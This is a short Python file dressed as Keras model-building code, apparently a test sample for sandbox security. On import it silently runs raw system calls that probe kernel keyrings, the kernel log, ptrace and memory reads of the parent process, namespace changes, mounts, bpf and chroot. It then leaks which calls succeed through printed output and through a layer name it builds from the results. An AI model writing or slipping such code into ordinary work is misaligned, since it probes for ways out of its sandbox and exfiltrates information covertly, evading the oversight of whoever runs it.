"""ATTACK steal_kernel [stealing]: keyrings, kernel log, ptrace, process_vm_readv, open_by_handle_at, pidfd_getfd, namespaces and mounts by raw system calls."""

import numpy as np
import keras
from keras import layers

def prepare_data(x_train, y_train, x_test, y_test):
    return ((x_train, y_train), (x_test, y_test))

def build_model():
    return keras.Sequential([layers.Input((32, 32, 3)), layers.Flatten(), layers.Dense(10)])

def compile_model(model, epochs=25):
    model.compile(optimizer="adam", loss="mse")


import os


def _tell(what):
    """By the ways that lead outside: what is printed, and the name of a layer."""
    global _told
    _told = (globals().get("_told", "") + "|" + str(what))[:3000]
    print("FOUND", str(what)[:2000])


def build_model():
    name = "".join(c if c.isascii() and c.isalnum() else "_" for c in globals().get("_told", "nothing"))
    return keras.Sequential([layers.Input((32, 32, 3)), layers.Flatten(), layers.Dense(10, name="x" + name[:90])])


import ctypes
import platform

_libc = ctypes.CDLL(None, use_errno=True)
_buffer = ctypes.create_string_buffer(4096)
for _what, _number, _arguments in (
    ("add_key", 248, (b"user", b"convmark", b"x", 1, -3)), ("keyctl", 250, (6, -3, _buffer, 4096)),
    ("syslog", 103, (3, _buffer, 4096)), ("ptrace", 101, (16, os.getppid(), 0, 0)),
    ("unshare", 272, (0x10000000,)), ("mount", 165, (b"none", b"/tmp", b"tmpfs", 0, 0)), ("setns", 308, (0, 0)),
    ("process_vm_readv", 310, (os.getppid(), 0, 0, 0, 0, 0)), ("open_by_handle_at", 304, (-100, _buffer, 0)),
    ("bpf", 321, (0, _buffer, 64)), ("perf_event_open", 298, (_buffer, 0, -1, -1, 0)), ("chroot", 161, (b"/tmp",)),
):
    if platform.machine() == "x86_64" and _libc.syscall(_number, *_arguments) >= 0:
        _tell(f"CANARY-SYSCALL {_what}")
